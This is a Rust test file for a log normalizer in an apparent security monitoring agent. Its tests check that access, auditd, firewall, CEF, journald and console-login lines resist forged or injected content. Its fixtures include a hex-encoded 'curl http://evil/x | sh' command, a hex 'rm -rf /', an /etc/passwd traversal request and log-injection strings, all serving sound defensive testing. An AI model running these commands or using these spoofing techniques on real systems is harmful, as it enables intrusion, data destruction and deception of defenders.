        n.handle_received(&src, rx, line.as_bytes());
    }
    assert_eq!(n.poll_timeout(), Some(7_000));
    n.handle_timeout(7_000);
    let ev = n.poll_event().expect("the first event, two seconds on");
    assert_eq!(ev.metadata.sequence, Some(1));
    assert!(n.poll_event().is_none());
    assert_eq!(n.poll_timeout(), Some(8_000));
    n.handle_timeout(8_000);
    let ev = n.poll_event().expect("the second event, two seconds on");
    assert_eq!(ev.metadata.sequence, Some(2));
}

/// An event's field at a dotted path, as JSON.
fn at(ev: &Event, path: &str) -> serde_json::Value {
    let json = serde_json::to_value(ev).unwrap();
    let ptr = format!("/{}", path.replace('.', "/"));
    json.pointer(&ptr)
        .cloned()
        .unwrap_or(serde_json::Value::Null)
}

/// Text a web client chooses (a user agent, a basic-auth user, the URL) holding another
/// format's line, or another client address: the access log is read as what it is, from
/// its fixed structure, never as the line the client wrote.
#[test]
fn a_web_client_cannot_write_another_event_into_an_access_line() {
    let evs = norm_lines(&[
        r#"192.0.2.1 - - [26/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 0 "-" "x CEF:0|Acme|VPN|1|100|User logon|3|suser=admin src=10.6.6.6 outcome=success ""#,
        r#"192.0.2.1 - - [26/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 404 0 "-" "x IN=eth0 OUT= SRC=10.6.6.6 DST=10.0.0.1 PROTO=TCP SPT=4444 DPT=22""#,
        r#"192.0.2.1 - x 10.6.6.6 - root [26/Nov/2026:10:00:00 +0000] "GET /admin HTTP/1.1" 401 0 "-" "curl/8""#,
        r#"192.0.2.1 - a[b [26/Nov/2026:10:00:00 +0000] "POST /login HTTP/1.1" 401 0 "-" "curl/8""#,
        r#"192.0.2.1 - - [26/Nov/2026:10:00:00 +0000] "GET /innocent /admin/../../etc/passwd HTTP/1.1" 400 0 "-" "-""#,
        r#"www.example.com 192.0.2.1 - bob [26/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "-""#,
    ]);
    assert_eq!(evs.len(), 6);
    for ev in &evs[..4] {
        assert_eq!(ev.class(), Class::HttpActivity, "{}", at(ev, "raw_data"));
        assert_eq!(
            at(ev, "src_endpoint.ip"),
            "192.0.2.1",
            "{}",
            at(ev, "raw_data")
        );
    }
    assert_eq!(at(&evs[2], "actor.user.name"), "x 10.6.6.6 - root");
    assert_eq!(at(&evs[3], "actor.user.name"), "a[b");
    assert_eq!(
        at(&evs[4], "http_request.url.path"),
        "/innocent /admin/../../etc/passwd"
    );
    assert_eq!(at(&evs[4], "http_request.version"), "HTTP/1.1");
    assert_eq!(at(&evs[5], "src_endpoint.ip"), "192.0.2.1");
    assert_eq!(at(&evs[5], "actor.user.name"), "bob");
}

/// nginx's error line: the message may quote the client's decoded path, and the fields
/// after the real `client:` (request, host, referrer) are the client's too. Candidates
/// that disagree claim no client; an IPv6 client has no port to split off.
#[test]
fn an_nginx_error_line_takes_no_client_from_quoted_text() {
    let evs = norm_lines(&[
        r#"2026/11/26 10:00:00 [error] 123#123: *5 open() "/usr/share/nginx/html/x, client: 6.6.6.6, server: a" failed (2: No such file or directory), client: 192.0.2.1, server: example.com, request: "GET /x,%20client:%206.6.6.6,%20server:%20a HTTP/1.1", host: "example.com""#,
        r#"2026/11/26 10:00:00 [error] 123#123: *6 open() "/usr/share/nginx/html/y" failed (2: No such file or directory), client: 2001:db8::5:1, server: example.com, request: "GET /y HTTP/1.1", host: "example.com""#,
        r#"2026/11/26 10:00:00 [error] 123#123: *7 user "root x" was not found in "/etc/nginx/.htpasswd", client: 192.0.2.1, server: example.com, request: "GET /admin HTTP/1.1", host: "example.com""#,
    ]);
    assert_eq!(at(&evs[0], "src_endpoint"), serde_json::Value::Null);
    assert!(
        at(&evs[0], "unmapped.vedette.parse_error")
            .as_str()
            .is_some_and(|e| e.contains("6.6.6.6") && e.contains("192.0.2.1")),
        "{}",
        at(&evs[0], "unmapped")
    );
    assert_eq!(at(&evs[1], "src_endpoint.ip"), "2001:db8::5:1");
    assert_eq!(at(&evs[1], "src_endpoint.port"), serde_json::Value::Null);
    assert_eq!(at(&evs[2], "actor.user.name"), "root x");
    assert_eq!(at(&evs[2], "src_endpoint.ip"), "192.0.2.1");
}

#[test]
fn an_apache_auth_failure_names_the_whole_user() {
    let evs = norm_lines(&[
        "[Thu Nov 26 10:00:00.123456 2026] [auth_basic:error] [pid 42:tid 43] [client 192.0.2.1:54321] AH01618: user root x not found: /admin",
    ]);
    assert_eq!(evs[0].class(), Class::Authentication);
    assert_eq!(at(&evs[0], "user.name"), "root x");
    assert_eq!(at(&evs[0], "src_endpoint.ip"), "192.0.2.1");
    assert_eq!(at(&evs[0], "src_endpoint.port"), 54321);
}

/// An ICMP error quotes the packet it is about: that packet's addresses and ports are
/// its sender's, kept apart. A rule prefix holding `IN=` is the prefix, not the fields.
#[test]
fn netfilter_reads_its_own_packet_and_its_rules_prefix() {
    let evs = norm_lines(&[
        "Nov 26 10:00:00 fw kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC=198.51.100.1 DST=203.0.113.9 LEN=56 TOS=0x00 PREC=0x00 TTL=64 ID=0 PROTO=ICMP TYPE=3 CODE=3 [SRC=203.0.113.9 DST=198.51.100.1 LEN=28 TOS=0x00 PREC=0x00 TTL=64 ID=1 PROTO=UDP SPT=53 DPT=31337 LEN=8 ] MTU=1500",
        "Nov 26 10:00:00 fw kernel: policy IN=wan DROP: IN=eth0 OUT= SRC=203.0.113.9 DST=198.51.100.1 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=4444 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
    ]);
    assert_eq!(at(&evs[0], "src_endpoint.ip"), "198.51.100.1");
    assert_eq!(at(&evs[0], "src_endpoint.port"), serde_json::Value::Null);
    assert_eq!(at(&evs[0], "dst_endpoint.port"), serde_json::Value::Null);
    assert!(
        at(&evs[0], "unmapped.netfilter.quoted_packet")
            .as_str()
            .is_some_and(|q| q.contains("DPT=31337")),
        "{}",
        at(&evs[0], "unmapped")
    );
    assert_eq!(at(&evs[1], "src_endpoint.interface_name"), "eth0");
    assert_eq!(at(&evs[1], "status"), "Failure");
    assert_eq!(at(&evs[1], "metadata.event_code"), "netfilter.blocked");
}

#[test]
fn a_cef_outcome_of_unsuccessful_is_a_failure_and_a_repeated_key_reads_its_first() {
    let evs = norm_lines(&[
        "CEF:0|V|P|1|100|User logon|5|suser=bob src=192.0.2.1 outcome=Unsuccessful",
        "CEF:0|V|P|1|100|User logon|5|suser=bob src=192.0.2.1 src=10.6.6.6 outcome=disallowed",
    ]);
    assert_eq!(at(&evs[0], "status"), "Failure");
    assert_eq!(at(&evs[1], "status"), "Failure");
    assert_eq!(at(&evs[1], "src_endpoint.ip"), "192.0.2.1");
    assert_eq!(at(&evs[1], "unmapped.cef.extensions.src"), "192.0.2.1");
}

const SYSCALL_EXEC: &str = r#"type=SYSCALL msg=audit(1700000000.123:700): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=100 pid=200 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key=(null)"#;

/// `argc` is the process's own: a forged `argc=99999999999` asked for terabytes before
/// reading one argument (the agent aborted), and 600,000 empty arguments made a 40 MB
/// event. The command line is read within a bound, and what is missing or cut is said once.
#[test]
fn an_exec_with_a_huge_argc_is_read_within_a_bound() {
    let evs = norm_lines(&[
        SYSCALL_EXEC,
        r#"type=EXECVE msg=audit(1700000000.123:700): argc=99999999999 a0="sh""#,
        r#"type=EOE msg=audit(1700000000.123:700): "#,
    ]);
    assert_eq!(evs.len(), 1);
    let p = evs[0].process.as_ref().unwrap();
    assert_eq!(p.cmd_line.as_deref(), Some("sh"));
    let why = at(&evs[0], "unmapped.vedette.parse_error");
    let why = why.as_str().unwrap();
    assert!(why.contains("missing") && why.contains("cut"), "{why}");
    assert!(why.len() < 400, "said once: {why}");
}

/// A long argv takes several EXECVE records of one event: arguments after the first were
/// dropped, so padding `a1` pushed the real command out of `cmd_line`. A long argument
/// comes in hex pieces, a character possibly split between them: joined, then decoded.
/// Hex keeps trailing blanks (`/tmp/sshd ` is not `/tmp/sshd`).
#[test]
fn an_argv_over_several_execve_records_is_read_whole() {
    let pad = "A".repeat(7400);
    let first = format!(r#"type=EXECVE msg=audit(1700000000.123:700): argc=4 a0="sh" a1="{pad}""#);
    let evs = norm_lines(&[
        SYSCALL_EXEC,
        &first,
        r#"type=EXECVE msg=audit(1700000000.123:700): a2="-c" a3=6375726C20687474703A2F2F6576696C2F78207C207368"#,
        r#"type=EOE msg=audit(1700000000.123:700): "#,
    ]);
    let cmd = evs[0].process.as_ref().unwrap().cmd_line.clone().unwrap();
    assert!(
        cmd.ends_with(" -c curl http://evil/x | sh"),
        "{}",
        &cmd[cmd.len() - 40..]
    );
    let evs = norm_lines(&[
        SYSCALL_EXEC,
        r#"type=EXECVE msg=audit(1700000000.123:700): argc=2 a0="sh" a1_len=24 a1[0]=726D202D7266202F20 a1[1]=7820C3"#,
        r#"type=EXECVE msg=audit(1700000000.123:700): a1[2]=A9"#,
        r#"type=CWD msg=audit(1700000000.123:700): cwd=2F746D702F73736864200A"#,
        r#"type=EOE msg=audit(1700000000.123:700): "#,
    ]);
    let p = evs[0].process.as_ref().unwrap();
    assert_eq!(p.cmd_line.as_deref(), Some("sh rm -rf / x é"));
    assert_eq!(p.working_directory.as_deref(), Some("/tmp/sshd \n"));
}

/// PAM logs `acct="?"` for an account it does not know; the record's own `uid` is the
/// logging process's (sshd: 0), so the failure is no failed root logon. `id=` is a uid.
#[test]
fn an_unknown_account_is_not_the_logging_processs_uid() {
    let evs = norm_lines(&[
        r#"type=USER_AUTH msg=audit(1700000000.300:22): pid=900 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="?" exe="/usr/sbin/sshd" hostname=1.2.3.4 addr=1.2.3.4 terminal=ssh res=failed'"#,
        r#"type=USER_LOGIN msg=audit(1700000000.400:23): pid=900 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=1.2.3.4 terminal=ssh res=success'"#,
    ]);
    assert_eq!(
        evs[0].header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    assert_ne!(at(&evs[0], "user.uid"), "0", "{}", at(&evs[0], "user"));
    assert_eq!(at(&evs[1], "user.uid"), "1000");
    assert_ne!(at(&evs[1], "user.name"), "1000");
}

/// auditd does not encode a `'` inside `msg='…'` (a user's cwd `/tmp/it's`): the value
/// ended there, and `res=failed` with it.
#[test]
fn a_quote_inside_msg_does_not_hide_the_result() {
    let evs = norm_lines(&[
        r#"type=USER_AUTH msg=audit(1700000000.100:31): pid=900 uid=0 auid=1000 ses=5 msg='op=PAM:authentication grantors=? acct="adm'in" exe="/usr/bin/sudo" hostname=? addr=? terminal=pts/0 res=failed'"#,
    ]);
    assert_eq!(
        evs[0].header.status,
        Some(vedette_schemas::ocsf::Status::Failure)
    );
    assert_eq!(at(&evs[0], "user.name"), "adm'in");
}

/// Serials start over at boot: a record of another boot's event with the same serial is
/// another event, not part of the one still open.
#[test]
fn records_of_one_serial_at_two_times_are_two_events() {
    let evs = norm_lines(&[
        r#"type=SYSCALL msg=audit(1700000000.100:5): arch=c000003e syscall=257 success=yes exit=3 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=10 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="old" exe="/usr/bin/old" key=(null)"#,
        r#"type=SYSCALL msg=audit(1700090000.100:5): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=88 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="new" exe="/usr/bin/new" key=(null)"#,
        r#"type=EXECVE msg=audit(1700090000.100:5): argc=1 a0="new""#,
        r#"type=EOE msg=audit(1700090000.100:5): "#,
    ]);
    let exec = evs
        .iter()
        .find(|e| e.class() == Class::ProcessActivity)
        .expect("the exec of the second boot");
    assert_eq!(exec.process.as_ref().unwrap().pid, Some(88));
    assert_eq!(
        evs.len(),
        2,
        "the first boot's record is an event of its own"
    );
}

/// Any local user can log under any name (`logger -t myapp 'type=USER_LOGIN …'`): an audit
/// record is read only from the programs that forward them, or from a file of them.
#[test]
fn an_audit_record_from_another_program_is_not_read_as_one() {
    let evs = norm_lines(&[
        r#"Nov 26 10:00:00 web1 myapp[4242]: type=USER_LOGIN msg=audit(1764151200.000:9001): pid=1 uid=0 auid=0 ses=1 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=? terminal=ssh res=success'"#,
    ]);
    assert_ne!(evs[0].class(), Class::Authentication);
}

/// A PARAM may repeat inside an SD-ELEMENT (RFC 5424 6.3.3): every value is kept, in
/// order; the last one alone overwrote the others.
#[test]
fn a_repeated_sd_param_keeps_every_value() {
    let evs = norm_lines(&[r#"<13>1 2026-01-01T00:00:00Z h app - - [x@1 a="1" a="2" b="3"] m"#]);
    assert_eq!(
        at(&evs[0], "unmapped.syslog.structured_data.x@1"),
        serde_json::json!({"a": ["1", "2"], "b": "3"})
    );
}

/// The shared phrases count only where a message starts with them: quoted inside another
/// program's message they made a failed logon from an address of the writer's choice.
#[test]
fn a_shared_phrase_inside_a_message_is_no_logon() {
    let evs = norm_lines(&[
        "<14>Nov 26 10:00:00 web1 myapp[321]: user comment: Authentication failed from 203.0.113.9 lol",
        "<14>Nov 26 10:00:00 web1 klogind[321]: Authentication failed from 203.0.113.9 (h): x",
    ]);
    assert_eq!(evs[0].class(), Class::Base);
    assert_eq!(evs[1].class(), Class::Authentication);
    assert_eq!(at(&evs[1], "src_endpoint.ip"), "203.0.113.9");
}

/// Lines through a normalizer with `[[json_mapping]]` sections `mapping` (TOML).
fn mapped_lines(mapping: &str, lines: &[&str]) -> Vec<Box<Event>> {
    let cfg = crate::config::parse(std::path::Path::new("t.toml"), mapping).unwrap();
    let mut n = Normalizer::new(NormalizeConfig {
        json: cfg.json,
        ..NormalizeConfig::default()
    });
    let src = epoch_source("x", false);
    for (i, l) in lines.iter().enumerate() {
        n.handle_line(&src, i as u64 + 1, l.as_bytes(), 0);
    }
    n.finish();
    std::iter::from_fn(|| n.poll_event()).collect()
}

const LOGIN_FAILED: &str = "[[json_mapping]]\nname = \"login_failed\"\nclass = \"authentication\"\nactivity_id = 1\nstatus = \"failure\"\nmatch = { event = \"login_failed\" }\nfields = { \"user.name\" = \"user\", \"actor.user.name\" = \"user\", \"src_endpoint.ip\" = \"ip\", \"src_endpoint.port\" = \"port\" }\n";

/// What an application logs may hold what a client sent: a lone UTF-16 surrogate (what
/// JavaScript and Python write for a broken string) made the line invalid JSON and hid it
/// from its mapping; a value of the wrong type for one attribute lost the whole mapping.
/// One source may feed two attributes. An `ID` like an audit stamp is no laurel record
/// where a mapping takes the line.
#[test]
fn a_json_mapping_takes_what_it_can_of_a_line() {
    let evs = mapped_lines(
        &format!(
            "{LOGIN_FAILED}[[json_mapping]]\nname = \"web\"\nclass = \"http_activity\"\nactivity_id = 3\nmatch = {{ app = \"web\" }}\nfields = {{ \"src_endpoint.ip\" = \"IP\" }}\n"
        ),
        &[
            r#"{"event":"login_failed","user":"admin\ud800","ip":"203.0.113.9"}"#,
            r#"{"event":"login_failed","user":"bob","ip":"203.0.113.9","port":"eighty"}"#,
            r#"{"app":"web","ID":"1700000000.123:42","URL":"/x","IP":"10.0.0.1","SYSCALL":{"a":1}}"#,
        ],
    );
    assert_eq!(evs[0].class(), Class::Authentication);
    assert_eq!(at(&evs[0], "user.name"), "admin\u{fffd}");
    assert!(
        at(&evs[0], "unmapped.vedette.parse_error")
            .as_str()
            .is_some_and(|e| e.contains("surrogate"))
    );
    assert_eq!(evs[1].class(), Class::Authentication);
    assert_eq!(at(&evs[1], "user.name"), "bob");
    assert_eq!(at(&evs[1], "actor.user.name"), "bob");
    assert_eq!(at(&evs[1], "src_endpoint.ip"), "203.0.113.9");
    assert_eq!(at(&evs[1], "unmapped.json.port"), "eighty");
    assert!(
        at(&evs[1], "unmapped.vedette.parse_error")
            .as_str()
            .is_some_and(|e| e.contains("port"))
    );
    assert_eq!(evs[2].class(), Class::HttpActivity);
    assert_eq!(at(&evs[2], "src_endpoint.ip"), "10.0.0.1");
}

/// A mapping may not set what the agent sets: the event's uid (the store's key for
/// dropping repeats: a log value could make real events be dropped as repeats), its
/// tenant, source, product or raw line. Nor apply without a match, to every JSON line of
/// every source.
#[test]
fn a_mapping_cannot_set_the_agents_own_fields_or_match_everything() {
    for (field, problem) in [
        ("metadata.uid", "json_mapping[0].fields.metadata.uid"),
        (
            "metadata.tenant_uid",
            "json_mapping[0].fields.metadata.tenant_uid",
        ),
        (
            "metadata.log_source",
            "json_mapping[0].fields.metadata.log_source",
        ),
        (
            "metadata.product.name",
            "json_mapping[0].fields.metadata.product.name",
        ),
        ("raw_data", "json_mapping[0].fields.raw_data"),
    ] {
        let text = format!(
            "[[json_mapping]]\nname = \"x\"\nclass = \"base_event\"\nmatch = {{ a = 1 }}\nfields = {{ \"{field}\" = \"v\" }}\n"
        );
        let err = crate::config::parse(std::path::Path::new("t.toml"), &text).unwrap_err();
        assert!(err.0.iter().any(|p| p.field == problem), "{field}: {err}");
    }
    let text = "[[json_mapping]]\nname = \"x\"\nclass = \"authentication\"\nfields = { \"user.name\" = \"user\" }\n";
    let err = crate::config::parse(std::path::Path::new("t.toml"), text).unwrap_err();
    assert!(
        err.0.iter().any(|p| p.field == "json_mapping[0].match"),
        "{err}"
    );
}

/// Only the kernel logs on facility 0: `logger -t kernel` (user.notice) and another
/// program's `IN= SRC=` text are made up, and frame an address or a crash. A file line
/// without PRI cannot tell, so it is read as before; so are ulogd's and Proxmox's lines.
#[test]
fn a_kernel_tag_off_the_kernel_facility_is_not_read_as_the_kernels() {
    const FW: &str =
        "IN=eth0 OUT= SRC=6.6.6.6 DST=10.0.0.2 LEN=60 TTL=50 ID=1 PROTO=TCP SPT=4444 DPT=22 SYN";
    let evs = norm_lines(&[
        &format!("<4>Nov 26 10:00:00 fw kernel: [UFW BLOCK] {FW}"),
        &format!("<13>Nov 26 10:00:00 fw kernel: [UFW BLOCK] {FW}"),
        &format!("<13>Nov 26 10:00:00 fw bob: {FW}"),
        &format!("<13>Nov 26 10:00:00 fw bob: [UFW BLOCK] {FW}"),
        &format!("Nov 26 10:00:00 fw kernel: [UFW BLOCK] {FW}"),
        &format!("<190>Nov 26 10:00:00 fw ulogd[12]: {FW}"),
        &format!("0 3 PVEFW-HOST-IN 20/Jun/2022:13:09:14 +0200 policy DROP: {FW}"),
        // `logger -t ''`: no program, on the user facility.
        &format!("<13>Nov 26 10:00:00 : {FW}"),
        // ulogd's own file: its log prefix reads as a tag, and there is no PRI to judge.
        &format!("Nov 26 10:00:00 gw DROP: {FW}"),
        &format!("Nov 26 10:00:00 gw Shorewall:net2fw:DROP: {FW}"),
        "<13>Nov 26 10:00:00 fw kernel: [ 12.3] app[42]: segfault at 0 ip 00007f sp 00007ffc error 4 in libc.so.6[7f00+1000]",
        "<13>Nov 26 10:00:00 fw kernel: audit: type=1400 audit(1700000000.123:42): apparmor=\"DENIED\" operation=\"open\" profile=\"x\" name=\"/etc/shadow\" pid=1 comm=\"x\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0",
    ]);
    let classes: Vec<Class> = evs.iter().map(|e| e.class()).collect();
    use Class::{Base as B, NetworkActivity as N};
    assert_eq!(classes, [N, B, B, B, N, N, N, B, N, N, B, B]);
    for i in [1, 10, 11] {
        let notes = serde_json::to_string(&evs[i].unmapped).unwrap();
        assert!(notes.contains("not read as the kernel's"), "{i}: {notes}");
    }
}

/// The journal says which entries the kernel logged (`_TRANSPORT=kernel`, which no
/// process can set); `SYSLOG_FACILITY=0` is a field any process may send.
#[test]
fn a_journal_entry_is_the_kernels_only_by_its_transport() {
    let mut n = Normalizer::new(NormalizeConfig::default());
    let src = epoch_source("journald", false);
    let entry = |transport: &str| {
        format!(
            r#"{{"__CURSOR":"s=ab;i=1","__REALTIME_TIMESTAMP":"1736935200123456","_HOSTNAME":"fw","SYSLOG_IDENTIFIER":"kernel","SYSLOG_FACILITY":"0","PRIORITY":"4","_TRANSPORT":"{transport}","MESSAGE":"[UFW BLOCK] IN=eth0 OUT= SRC=6.6.6.6 DST=10.0.0.2 LEN=60 PROTO=TCP SPT=4444 DPT=22"}}"#
        )
    };
    for (seq, transport) in [(1, "kernel"), (2, "journal"), (3, "syslog")] {
        let rx = Received {
            seq,
            now_ms: 0,
            peer: None,
            cut_from: None,
            clock_ms: None,
            incomplete: false,
        };
        n.handle_journal(&src, rx, entry(transport).as_bytes());
    }
    n.finish();
    let classes: Vec<Class> = std::iter::from_fn(|| n.poll_event())
        .map(|e| e.class())
        .collect();
    assert_eq!(classes, [Class::NetworkActivity, Class::Base, Class::Base]);
}

/// An address attribute holds an address: a host name, an `IP:port` or a client-chosen
/// string mapped to `src_endpoint.ip` became an IP observable that detections match and a
/// response blocks. It is kept under `unmapped.json`, with the reason; the rest maps.
#[test]
fn a_json_mapping_sets_only_addresses_in_address_attributes() {
    let evs = mapped_lines(
        LOGIN_FAILED,
        &[
            r#"{"event":"login_failed","user":"bob","ip":"gw.example.com"}"#,
            r#"{"event":"login_failed","user":"bob","ip":"203.0.113.9:443"}"#,
            r#"{"event":"login_failed","user":"bob","ip":7}"#,
            r#"{"event":"login_failed","user":"bob","ip":"2001:db8::1"}"#,
            r#"{"event":"login_failed","user":"bob","ip":null}"#,
        ],
    );
    // A null is no value, as for any attribute: nothing to say.
    assert!(at(&evs[4], "src_endpoint.ip").is_null());
    assert!(at(&evs[4], "unmapped.vedette.parse_error").is_null());
    for (ev, ip) in evs[..3].iter().zip([
        serde_json::json!("gw.example.com"),
        serde_json::json!("203.0.113.9:443"),
        serde_json::json!(7),
    ]) {
        assert_eq!(ev.class(), Class::Authentication);
        assert_eq!(at(ev, "user.name"), "bob");
        assert!(ev.src_endpoint.is_none());
        assert_eq!(at(ev, "unmapped.json.ip"), ip);
        assert!(
            at(ev, "unmapped.vedette.parse_error")
                .as_str()
                .is_some_and(|e| e.contains("not an IP address"))
        );
        let observed = serde_json::to_string(&ev.observables).unwrap();
        assert!(!observed.contains("IP Address"), "{observed}");
    }
    assert_eq!(at(&evs[3], "src_endpoint.ip"), "2001:db8::1");
}

/// login(1) at a console, a serial line or telnet: the attempts no SSH log shows. The user
/// is what was typed at the prompt, so it is read between the fixed parts (the terminal
/// and host from the left, the PAM error from the right), whatever it holds.
#[test]
fn console_logins_are_authentications() {
    let evs = norm_lines(&[
        "Nov 26 10:00:00 h login[901]: FAILED LOGIN 1 ON /dev/tty1 FOR root, Authentication failure",
        "Nov 26 10:00:00 h login[902]: FAILED LOGIN 2 FROM 203.0.113.9 FOR x FROM 10.0.0.1, bob, User not known to the underlying authentication module",
        "Nov 26 10:00:00 h login[903]: TOO MANY LOGIN TRIES (3) ON /dev/ttyS0 FOR admin, Authentication failure",
        "Nov 26 10:00:00 h login[904]: FAILED LOGIN (1) on '/dev/tty1' FOR 'UNKNOWN', Authentication failure",
        "Nov 26 10:00:00 h login[905]: FAILED LOGIN (2) on '/dev/pts/0' from 'gw.example.com' FOR 'it's, me', Authentication failure",
        "Nov 26 10:00:00 h login[906]: TOO MANY LOGIN TRIES (5) on `/dev/tty2' FOR `root'",
        "Nov 26 10:00:00 h login[907]: ROOT LOGIN  on '/dev/tty1'",
        "Nov 26 10:00:00 h login[908]: ROOT LOGIN ON pts/0 FROM 198.51.100.7",
        "Nov 26 10:00:00 h login[909]: LOGIN ON tty2 BY bob",
        "Nov 26 10:00:00 h login[910]: FAILED LOGIN SESSION FROM 198.51.100.8 FOR carol, Permission denied",
        "Nov 26 10:00:00 h login[911]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=root",
        "Nov 26 10:00:00 h login[912]: FAILED LOGIN x ON /dev/tty1 FOR root, Authentication failure",
        // util-linux says FROM the terminal when there is no remote host.
        "Nov 26 10:00:00 h login[913]: FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure",
        "Nov 26 10:00:00 h login[914]: FAILED LOGIN 3 FROM pts/2 FOR (unknown), User not known to the underlying authentication module",
        // No error follows shadow's too-many-tries: a typed `root', Authentication
        // failure` is all user.
        "Nov 26 10:00:00 h login[915]: TOO MANY LOGIN TRIES (5) on '/dev/tty1' FOR 'root', Authentication failure'",
    ]);
    let classes: Vec<Class> = evs.iter().map(|e| e.class()).collect();
    assert!(
        classes[..11].iter().all(|c| *c == Class::Authentication),
        "{classes:?}"
    );
    assert!(
        classes[12..].iter().all(|c| *c == Class::Authentication),
        "{classes:?}"
    );
    assert_eq!(
        evs[11].class(),
        Class::Base,
        "an attempt number that is none"
    );
    let row = |i: usize| {
        (
            at(&evs[i], "user.name").as_str().unwrap_or("").to_owned(),
            at(&evs[i], "status_id").as_u64(),
            at(&evs[i], "logon_type_id").as_u64(),
            at(&evs[i], "src_endpoint.ip").as_str().map(str::to_owned),
            at(&evs[i], "unmapped.login.tty")
                .as_str()
                .map(str::to_owned),
        )
    };
    let s = |v: &str| Some(v.to_owned());
    assert_eq!(
        row(0),
        ("root".into(), Some(2), Some(2), None, s("/dev/tty1"))
    );
    // A name made to look like a second address is the name; the host is the one login
    // wrote.
    assert_eq!(
        row(1),
        (
            "x FROM 10.0.0.1, bob".into(),
            Some(2),
            Some(10),
            s("203.0.113.9"),
            None
        )
    );
    assert_eq!(
        at(&evs[1], "status_detail"),
        "User not known to the underlying authentication module"
    );
    assert_eq!(
        row(2),
        ("admin".into(), Some(2), Some(2), None, s("/dev/ttyS0"))
    );
    assert_eq!(at(&evs[2], "status_detail"), "Too many login tries");
    // shadow hides a name that is no account: what was typed may be a password.
    assert_eq!(
        row(3),
        ("(unknown)".into(), Some(2), Some(2), None, s("/dev/tty1"))
    );
    assert_eq!(
        row(4),
        ("it's, me".into(), Some(2), Some(10), None, s("/dev/pts/0"))
    );
    assert_eq!(at(&evs[4], "src_endpoint.hostname"), "gw.example.com");
    assert_eq!(
        row(5),
        ("root".into(), Some(2), Some(2), None, s("/dev/tty2"))
    );
    assert_eq!(
        row(6),
        ("root".into(), Some(1), Some(2), None, s("/dev/tty1"))
    );
    assert_eq!(
        row(7),
        (
            "root".into(),
            Some(1),
            Some(10),
            s("198.51.100.7"),
            s("pts/0")
        )
    );
    assert_eq!(row(8), ("bob".into(), Some(1), Some(2), None, s("tty2")));
    assert_eq!(
        row(9),
        ("carol".into(), Some(2), Some(10), s("198.51.100.8"), None)
    );
    assert_eq!(at(&evs[10], "metadata.log_name"), "pam");
    assert_eq!(row(12), ("root".into(), Some(2), Some(2), None, s("tty1")));
    assert!(evs[12].src_endpoint.is_none());
    assert_eq!(
        row(13),
        ("(unknown)".into(), Some(2), Some(2), None, s("pts/2"))
    );
    assert_eq!(at(&evs[13], "user.type_id"), 0);
    assert_eq!(
        row(14),
        (
            "root', Authentication failure".into(),
            Some(2),
            Some(2),
            None,
            s("/dev/tty1")
        )
    );
}

/// A password typed one line early at a console is the user name of a failed login: the
/// edge stage's redaction takes it out of every field, as it does for sshd's.
#[test]
fn a_password_typed_as_a_console_user_name_is_redacted() {
    use crate::core::enrich::redact::{RedactConfig, Redactor};
    let mut evs = norm_lines(&[
        "Nov 26 10:00:00 h login[901]: FAILED LOGIN 1 ON /dev/tty1 FOR Qx7!secretC, Authentication failure",
    ]);
    let mut r = Redactor::new(RedactConfig::default(), b"k");
    r.apply(&mut evs[0]);
    let text = serde_json::to_string(&evs[0]).unwrap();
    assert!(!text.contains("Qx7!secretC"), "{text}");
    assert_eq!(evs[0].class(), Class::Authentication);
}
